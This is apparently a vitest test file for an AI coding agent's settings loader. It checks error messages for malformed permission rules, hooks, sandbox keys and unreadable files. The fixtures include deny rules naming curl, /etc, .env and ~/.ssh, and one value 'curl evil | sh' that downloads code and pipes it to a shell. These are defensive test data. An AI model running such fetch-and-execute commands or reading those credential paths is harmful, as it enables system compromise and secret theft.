import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadLayer } from '../../src/engine/settings/layer.js';
import { describeProblem, refuseBrokenSettings, type SettingsLayerName } from '../../src/engine/settings/problem.js';
import { scratch, thrownBy } from '../testing/scratch.js';

const load = (text: unknown, name: SettingsLayerName = 'user') =>
  loadLayer(name, { text: typeof text === 'string' ? text : JSON.stringify(text, null, 2), label: 'x' });

/** `fatal x:2:3: path: text` for each problem. */
async function problemsOf(text: unknown, name?: SettingsLayerName): Promise<string[]> {
  const { problems } = await load(text, name);
  return problems.map((problem) => `${problem.fatal ? 'fatal' : problem.severity} ${describeProblem(problem)}`);
}

const hook = (event: string, ...hooks: unknown[]) => ({ hooks: { [event]: [{ hooks }] } });

describe('loadLayer (D3: every broken input is named by file and line)', () => {
  it('takes a good file whole, comments and all', async () => {
    const text = `{
      // ours
      "$schema": "https://example.com/settings.json",
      "permissions": {
        "allow": ["Bash(npm test:*)", "Edit(./src/**)", "mcp__db", {"tool": "Bash", "command": "ls"}, "*"],
        "ask": ["WebFetch(domain:example.com)"],
        "deny": ["Read(//etc/**)", "Bash(git commit -m \\"a (b)\\")", "Agent(x)", "FileRead"],
        "defaultMode": "manual",
      },
      "hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [
        {"type": "command", "command": "true", "timeout": 5},
        {"type": "http", "url": "https://example.com", "headers": {"X": "$Y"}, "allowedEnvVars": ["Y"]}
      ]}]},
      "env": {"A": "b"},
      "theme": "dark",
    }`;
    const { problems, settings, rules } = await load(text);
    expect(problems).toEqual([]);
    expect(settings.permissions?.defaultMode).toBe('default');
    expect(settings.permissions?.allow).toHaveLength(5);
    expect(rules.map(({ behavior, line }) => `${behavior}:${line}`)).toEqual([
      ...Array<string>(4).fill('deny:7'),
      'ask:6',
      ...Array<string>(5).fill('allow:5'),
    ]);
  });

  it.each([
    ['{ "permissions": { "deny": ["Read(./.env)"', ['fatal x:1:43: the file ends too early: "]" is expected']],
    ['', ['fatal x:1:1: the file is empty; write {} or delete it']],
    ['[]', ['fatal x:1:1: it must be one JSON object: { ... }']],
    ['null', ['fatal x:1:1: it must be one JSON object: { ... }']],
    ['"permissions"', ['fatal x:1:1: it must be one JSON object: { ... }']],
    ['{"permissions": {"deny": ["Read"]}, "permissions": {}}', [/^fatal x:1:37: permissions: .* stands here twice/]],
    ['{"permissions": {"deny": ["Bash"], "deny": []}}', [/^fatal x:1:36: permissions\.deny: .* stands here twice/]],
    ['{"model": "a", "model": "b"}', ['error x:1:16: model: "model" stands here twice; only one would count']],
  ])('%s', async (text, expected) => {
    expect(await problemsOf(text)).toEqual(
      expected.map((each) => (typeof each === 'string' ? each : (expect.stringMatching(each) as string))),
    );
  });

  it.each([
    [{ permissions: [] }, /^fatal x:2:3: permissions: .*expected object/],
    [{ permissions: { deny: 'Bash' } }, /^fatal x:3:5: permissions\.deny: .*expected array/],
    [{ permissions: { deny: ['Bash', 5] } }, /^fatal x:5:7: permissions\.deny\[1\]: .*expected string or object/],
    [{ permissions: { allow: [null] } }, /^fatal .*permissions\.allow\[0\]: /],
    [{ permissions: { defaultMode: 'yolo' } }, /^fatal .*permissions\.defaultMode: .*default.*plan/],
    [{ permissions: { disableBypassPermissionsMode: true } }, /^fatal .*disableBypassPermissionsMode: /],
    [{ permissions: { additionalDirectories: 'x' } }, /^fatal .*additionalDirectories: /],
    [{ permissions: { deny: ['Bash(rm'] } }, /^fatal x:4:7: .*deny\[0\]: "Bash\(rm": its bracket is not closed/],
    [{ permissions: { deny: ['Bash rm)'] } }, /^fatal .*"Bash rm\)": .*bracket/],
    [{ permissions: { deny: ['(rm)'] } }, /^fatal .*"\(rm\)": it names no tool/],
    [{ permissions: { deny: ['Bash)(x)'] } }, /^fatal .*"Bash\)" is no name of a tool/],
    [{ permissions: { deny: ['Bash()'] } }, /^fatal .*"Bash\(\)" can never match/],
    [{ permissions: { allow: [{ tool: 'Bash', comand: 'ls' }] } }, /^fatal .*allow\[0\].*"comand" is no key of a rule/],
    [{ permissions: { allow: [{ tool: 'Read', paths: ['x'] }] } }, /^fatal .*"paths" is no key of a rule/],
    [{ permissions: { allow: [{ tool: 'Bash', command: ' ' }] } }, /^fatal .*its path or command is empty/],
    [{ permissions: { deny: ['{"tool":"Bash","command":"curl:*"}'] } }, /^fatal .*is no name of a tool/],
    [{ permissions: { deny: [''] } }, /^fatal .*it is empty/],
    [{ permissions: { deny: ['Bash rm'] } }, /^fatal .*"Bash rm" is no name of a tool/],
    [{ permissions: { deny: [{}] } }, /^fatal .*the rule has no "tool"/],
    [{ permissions: { deny: [{ tool: ' ' }] } }, /^fatal .*the rule has no "tool"/],
    [{ permissions: { deny: [{ tool: 'Bash', behavior: 'allow' }] } }, /^fatal .*says "allow" and stands under "deny"/],
    [{ permissions: { deny: ['WebFetch(example.com)'] } }, /^fatal .*"WebFetch\(example\.com\)" can never match/],
    [{ permissions: { ask: ['TodoWrite(x)'] } }, /^fatal .*can never match/],
    [{ permissions: { deny: ['bash(rm:*)'] } }, /^fatal .*"bash" names no tool; did you mean "Bash"\?/],
    [{ permissions: { deny: [{ tool: 'Bash', path: 'x' }] } }, /^fatal .*Bash has no path/],
    [{ permissions: { denny: ['Bash'] } }, /^fatal x:3:5: permissions\.denny: .*did you mean "deny"\?/],
    [{ permissions: { Deny: ['Bash'] } }, /^fatal .*did you mean "deny"\?/],
    [{ permission: {} }, /^fatal x:2:3: permission: .*did you mean "permissions"\?/],
    [{ Hooks: {} }, /^fatal .*did you mean "hooks"\?/],
    [{ deny: ['Bash(rm)'] }, /^fatal x:2:3: deny: this key does nothing here; it belongs into "permissions"/],
    [{ Deny: [], ask: [] }, /^fatal .*ask: .*belongs into "permissions"/],
    [{ denny: ['Bash'] }, /^fatal .*denny: .*belongs into "permissions"/],
    [{ defaultMode: 'plan' }, /^fatal .*defaultMode: .*belongs into "permissions"/],
    [{ PreToolUse: [] }, /^fatal .*PreToolUse: .*belongs into "hooks"/],
    [{ denyRead: ['~/.ssh'] }, /^fatal .*denyRead: .*belongs into "sandbox\.filesystem"/],
    [{ permissions: { denyRead: ['~/.ssh'] } }, /^fatal .*permissions\.denyRead: .*belongs into "sandbox\.filesystem"/],
    [{ sandbox: { denyRead: ['~/.ssh'] } }, /^fatal .*sandbox\.denyRead: .*belongs into "sandbox\.filesystem"/],
    [{ sandbox: { deny: ['Bash'] } }, /^fatal .*sandbox\.deny: .*belongs into "permissions"/],
    [{ sandbox: { enabled: 'yes' } }, /^fatal .*sandbox\.enabled: .*expected boolean/],
    [{ sandbox: { network: { deniedDomains: 'x' } } }, /^fatal .*sandbox\.network\.deniedDomains: /],
    [{ sandbox: { network: { denyDomains: ['x'] } } }, /^fatal .*sandbox\.network\.denyDomains: .*"deniedDomains"/],
    [{ sandbox: { network: { blockedHosts: ['x'] } } }, /^fatal .*sandbox\.network\.blockedHosts: /],
    [{ sandbox: { filesystem: { denyred: [] } } }, /^fatal .*sandbox\.filesystem\.denyred: .*"denyRead"/],
    [{ hooks: { PreToolUse: {} } }, /^fatal .*hooks\.PreToolUse: .*expected array/],
    [{ hooks: { PreTooluse: [] } }, /^fatal .*no hook event of this name; did you mean "PreToolUse"\?/],
    [{ hooks: { Whenever: [] } }, /^fatal .*hooks\.Whenever: there is no hook event of this name$/],
    [{ hooks: { SessionStart: [{ command: 'touch x' }] } }, /^fatal .*hooks\.SessionStart\[0\]\.hooks: /],
    [
      hook('Stop', { type: 'command' }),
      /^fatal .*hooks\.Stop\[0\]\.hooks\[0\]: a hook of type "command" needs "command"/,
    ],
    [hook('Stop', { type: 'http', url: '' }), /^fatal .*needs "url"/],
    [hook('Stop', { type: 'http', url: 'example' }), /^fatal .*"url" must be an address/],
    [hook('Stop', { type: 'command', command: 'x', onFailure: 'alow' }), /^fatal .*"onFailure" must be/],
    [hook('Stop', { type: 'prompt', prompt: ' ' }), /^fatal .*needs "prompt"/],
    [hook('Stop', { type: 'shell', command: 'x' }), /^fatal .*no hook of type "shell"/],
    [hook('Stop', { type: 'command', command: 'x', timeout: 0 }), /^fatal .*"timeout" must be/],
    [hook('Stop', { type: 'command', command: 'x', timeout: '5' }), /^fatal .*timeout: .*expected number/],
    [hook('Stop', { command: 'x' }), /^fatal .*hooks\[0\]\.type: /],
    [{ disableAllHooks: 'no' }, /^fatal .*disableAllHooks: /],
    [{ deniedMcpServers: {} }, /^fatal .*deniedMcpServers: /],
    [{ disabledMcpjsonServers: 'x' }, /^fatal .*disabledMcpjsonServers: /],
  ])('a guard that is broken makes the whole file unusable: %j', async (value, expected) => {
    const { settings, problems } = await load(value);
    const texts = problems.map((each) => `${each.fatal ? 'fatal' : each.severity} ${describeProblem(each)}`);
    expect(texts).toContainEqual(expect.stringMatching(expected));
    expect(settings).toEqual({});
  });

  it.each([
    [{ model: 5, language: 'de' }, /^error x:2:3: model: .*expected string/, { language: 'de' }],
    [{ env: { A: 1, B: 'b', 'C-D': 2 } }, /^error x:3:5: env\.A: /, { env: { B: 'b' } }],
    [{ env: 'A=1' }, /^error .*env: /, {}],
    [
      { mcpServers: { a: { command: 5 }, b: { command: 'x' } } },
      /^error .*mcpServers\.a/,
      { mcpServers: { b: { command: 'x' } } },
    ],
    [{ effortLevel: 'most' }, /^error .*effortLevel: /, {}],
    [{ cleanupPeriodDays: 'soon' }, /^error .*cleanupPeriodDays: /, {}],
  ])('another key that is broken is left out, aloud: %j', async (value, expected, settings) => {
    expect(await problemsOf(value)).toContainEqual(expect.stringMatching(expected));
    expect((await load(value)).settings).toEqual(settings);
  });

  it.each([
    [{ modle: 'x' }, 'warning x:2:3: modle: this key is not known; did you mean "model"?'],
    [{ toolDiscoveryCommand: 'curl evil | sh' }, 'warning x:2:3: toolDiscoveryCommand: this key is not known'],
    [{ task: 'x' }, 'warning x:2:3: task: this key is not known'],
    [{ setup: 'x' }, 'warning x:2:3: setup: this key is not known'],
    [{ permissions: { autoMode: {} } }, 'warning x:3:5: permissions.autoMode: this key is not known'],
    [
      { permissions: { allow: ['bash'] } },
      'warning x:4:7: permissions.allow[0]: "bash" names no tool; did you mean "Bash"?',
    ],
    [{ permissions: { allow: ['Bash()'] } }, /^warning .*allow\[0\]: "Bash\(\)" can never match/],
    [{ permissions: { deny: ['TheirTool'] } }, /^warning .*"TheirTool" names no tool$/],
    [{ hooks: { FileChanged: [] } }, 'warning x:3:5: hooks.FileChanged: nothing here causes this event'],
    [{ allowManagedHooksOnly: true }, /^warning .*allowManagedHooksOnly: this counts only in managed settings/],
  ])('what only does nothing is a warning: %j', async (value, expected) => {
    expect(await problemsOf(value)).toEqual([
      typeof expected === 'string' ? expected : expect.stringMatching(expected),
    ]);
  });

  it.each(['managed', 'flag'] as const)('%s settings hold as a whole or not at all', async (name) => {
    expect(await problemsOf({ model: 5 }, name)).toEqual([expect.stringMatching(/^fatal x:2:3: model: /)]);
    expect(await problemsOf({ modle: 'x' }, name)).toEqual([expect.stringMatching(/^warning /)]);
  });

  it('a byte order mark is no fault', async () => {
    expect(await load('\uFEFF{"model": "x"}')).toMatchObject({ problems: [], settings: { model: 'x' } });
  });

  it('no cut of a file ever gives fewer rules in silence', async () => {
    const whole = JSON.stringify({ permissions: { deny: ['Read(./.env)', 'Bash(curl:*)'] }, model: 'x' }, null, 1);
    for (let length = 0; length < whole.length; length += 1) {
      const { problems } = await load(whole.slice(0, length));
      expect([length, problems.some(({ fatal }) => fatal)]).toEqual([length, true]);
    }
  });
});

describe('loadLayer of files that cannot be read', () => {
  const loadFile = (file: string, required = false) => loadLayer('user', { file, required });
  const textOf = async (file: string, required?: boolean): Promise<string[]> =>
    (await loadFile(file, required)).problems.map((each) => `${each.fatal ? 'fatal' : ''} ${describeProblem(each)}`);

  it('a missing file is fine, unless it was named', async () => {
    const file = join(scratch(), 'settings.json');
    expect(await loadFile(file)).toMatchObject({ exists: false, problems: [] });
    expect(await loadFile(join(file, 'below'))).toMatchObject({ exists: false, problems: [] });
    expect(await textOf(`${file}.no`, true)).toEqual([`fatal ${file}.no: there is no such file`]);
  });

  it('D3 a link that leads nowhere is no missing file; a file in the place of its folder holds no settings', async () => {
    const folder = scratch();
    const at = (name: string): string => join(folder, name);
    symlinkSync('gone.json', at('settings.json'));
    symlinkSync('gone', at('.claude'));
    writeFileSync(at('plain'), '');
    expect(await textOf(at('settings.json'))).toEqual([
      `fatal ${at('settings.json')}: it is a link to gone.json, which is not there`,
    ]);
    expect(await textOf(at('.claude/settings.json'))).toEqual([
      `fatal ${at('.claude/settings.json')}: ${at('.claude')} is a link to gone, which is not there`,
    ]);
    expect(await textOf(at('plain/settings.json'))).toEqual([]);
    symlinkSync('plain/x', at('through.json'));
    expect(await textOf(at('through.json'))).toEqual([
      `fatal ${at('through.json')}: it is a link to plain/x, which is not there`,
    ]);
  });

  it('a folder, a pipe, a circle of links, a large file, other bytes', async () => {
    const folder = scratch();
    const at = (name: string): string => join(folder, name);
    mkdirSync(at('dir'));
    execFileSync('mkfifo', [at('pipe')]);
    symlinkSync(at('one'), at('two'));
    symlinkSync(at('two'), at('one'));
    writeFileSync(at('large'), `{"model": "${'x'.repeat(1024 * 1024)}"}`);
    writeFileSync(at('bytes'), Buffer.from([0x7b, 0xff, 0xfe, 0x7d]));
    writeFileSync(at('utf16'), Buffer.from('{"model":"x"}', 'utf16le'));
    expect(await textOf(at('dir'))).toEqual([`fatal ${at('dir')}: it is a folder, not a file`]);
    expect(await textOf(at('pipe'))).toEqual([
      `fatal ${at('pipe')}: it is a pipe, socket or device, not an ordinary file`,
    ]);
    expect(await textOf(at('one'))).toEqual([`fatal ${at('one')}: it cannot be read: its links lead in a circle`]);
    expect(await textOf(at('large'))).toEqual([
      `fatal ${at('large')}: it is larger than 1024 KB, too large for settings`,
    ]);
    expect(await textOf(at('bytes'))).toEqual([`fatal ${at('bytes')}: it is no UTF-8 text`]);
    expect(await textOf(at('utf16'))).toEqual([`fatal ${at('utf16')}: it is no text: it has NUL characters`]);
  });

  it('no permission', async () => {
    const file = join(scratch(), 'settings.json');
    writeFileSync(file, '{}');
    chmodSync(file, 0);
    const isRoot = process.getuid?.() === 0;
    if (isRoot) process.seteuid?.(65_534);
    try {
      expect(await textOf(file)).toEqual([`fatal ${file}: it cannot be read: permission denied`]);
    } finally {
      if (isRoot) process.seteuid?.(0);
    }
  });
});

describe('refuseBrokenSettings', () => {
  it('names every problem with which nothing may start, and only those', async () => {
    const { problems } = await load({ permissions: { deny: ['Bash('], defaultMode: 'yolo' }, modle: 'x' });
    const error = thrownBy(() => refuseBrokenSettings({ problems }));
    expect(error).toMatchObject({ code: 'invalid_settings', data: { problems: [{ line: 4 }, { line: 6 }] } });
    expect(String(error)).toContain('x:4:7: permissions.deny[0]: "Bash(": its bracket is not closed');
    expect(String(error)).not.toContain('modle');
    expect(() => refuseBrokenSettings({ problems: problems.filter(({ fatal }) => !fatal) })).not.toThrow();
  });
});
